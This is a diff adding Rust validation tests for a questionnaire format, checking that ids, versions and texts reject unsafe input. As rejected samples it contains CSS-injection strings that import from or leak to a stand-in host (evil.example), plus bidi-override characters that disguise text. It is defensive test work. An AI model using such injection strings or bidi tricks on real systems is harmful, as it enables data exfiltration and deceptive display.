@@ -345,3 +345,61 @@ fn an_unknown_field_is_rejected_by_name() {
         .to_string();
     assert!(message.contains("unknown field `wieght`"), "{message}");
 }
+
+/// The id and version are written into storage keys, file names and the printed page's margin (a
+/// CSS string): a newline or quote in them once ended that string and smuggled in CSS rules.
+#[test]
+fn questionnaire_id_and_version_must_be_plain() {
+    for bad in [
+        "Digital trade",
+        "x\";} @import url(https://evil.example/x.css); x{\"",
+        "-x",
+        "",
+        "a\nb",
+    ] {
+        let id = bad.to_owned();
+        check(
+            move |d| d["id"] = json!(id),
+            &["questionnaire", "field id", "is not an id"],
+        );
+    }
+    for bad in [
+        "1.0",
+        "1.0.0\n} @page { @top-left { content: url(https://evil.example/leak) } }",
+        "01.0.0",
+        "1.0.0-beta",
+        "v1.0.0",
+        " 1.0.0",
+    ] {
+        let version = bad.to_owned();
+        check(
+            move |d| d["version"] = json!(version),
+            &["questionnaire", "field version", "is not a version"],
+        );
+    }
+    for good in ["1.0.0", "10.20.300", "0.0.1"] {
+        assert!(assessment::is_version(good), "{good}");
+    }
+    for good in ["digital-trade", "assoc.2026_q1", "x"] {
+        assert!(assessment::is_questionnaire_id(good), "{good}");
+    }
+}
+
+/// Bidi overrides and isolates make a text display other than it reads (U+202E before "gnp.exe" shows it as
+/// "exe.png"); control characters are invisible. Line breaks are fine.
+#[test]
+fn texts_must_not_hold_bidi_controls_or_control_characters() {
+    for (c, code) in [
+        ('\u{202E}', "U+202E"),
+        ('\u{2066}', "U+2066"),
+        ('\u{0007}', "U+0007"),
+    ] {
+        check(
+            move |d| a2(d)["text"]["en"] = json!(format!("Orders {c}kcatta")),
+            &["item A2", "field text", code, "not allowed"],
+        );
+    }
+    let mut doc = tiny();
+    a2(&mut doc)["text"]["en"] = json!("Two lines\nof text");
+    Questionnaire::from_json(&doc.to_string()).unwrap();
+}
